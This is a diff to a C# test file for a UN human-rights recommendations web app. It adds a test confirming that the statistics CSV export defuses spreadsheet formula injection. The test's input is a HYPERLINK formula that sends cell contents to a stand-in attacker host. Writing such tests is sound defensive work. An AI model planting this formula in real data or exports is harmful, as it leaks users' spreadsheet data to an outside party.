@@ -1,4 +1,6 @@
 using System.Net;
+using System.Net.Http.Json;
+using Spean.Core.Accounts;
 using System.Text.RegularExpressions;
 using Spean.Web.Tests.Infrastructure;
 
@@ -7,6 +9,8 @@ namespace Spean.Web.Tests.Recommendations;
 [Collection(nameof(RecommendationsApp))]
 public sealed class StatisticsTests(RecommendationsApp app)
 {
+    private static readonly string[] LandIssue = ["Right to land"];
+
     [Fact]
     public async Task Cambodia_session_18_has_205_recommendations_163_supported_and_42_noted()
     {
@@ -106,5 +110,25 @@ public sealed class StatisticsTests(RecommendationsApp app)
 
         Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
         Assert.Contains("recommendingGroup", (await response.ReadJsonAsync()).GetProperty("detail").GetString());
+    }
+
+    [Fact]
+    public async Task A_recommending_State_typed_as_a_formula_is_text_in_the_statistics_CSV()
+    {
+        var word = $"xf{Guid.NewGuid():N}"[..14];
+        const string formula = "=HYPERLINK(\"http://attacker.example/?\"&A1)";
+        var coordinator = await app.ClientForAsync(Role.Coordinator);
+        using (var created = await coordinator.PostAsJsonAsync("/api/v1/recommendations", new
+        {
+            text = $"Protect human rights defenders {word}", stateUnderReview = "KHM", recommendingStates = new[] { formula }, session = 32,
+            response = "Noted", issues = LandIssue,
+        }))
+            Assert.True(created.StatusCode == HttpStatusCode.Created, await created.Content.ReadAsStringAsync());
+
+        var csv = await app.AnonymousClient().GetStringAsync($"/api/v1/recommendations/statistics.csv?rows=recommending&columns=response&q={word}");
+        var cells = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimStart('"')).ToList();
+
+        Assert.Contains(cells, l => l.StartsWith("'=HYPERLINK(", StringComparison.Ordinal));
+        Assert.DoesNotContain(cells, l => l.StartsWith('=') || l.StartsWith('+') || l.StartsWith('-') || l.StartsWith('@'));
     }
 }
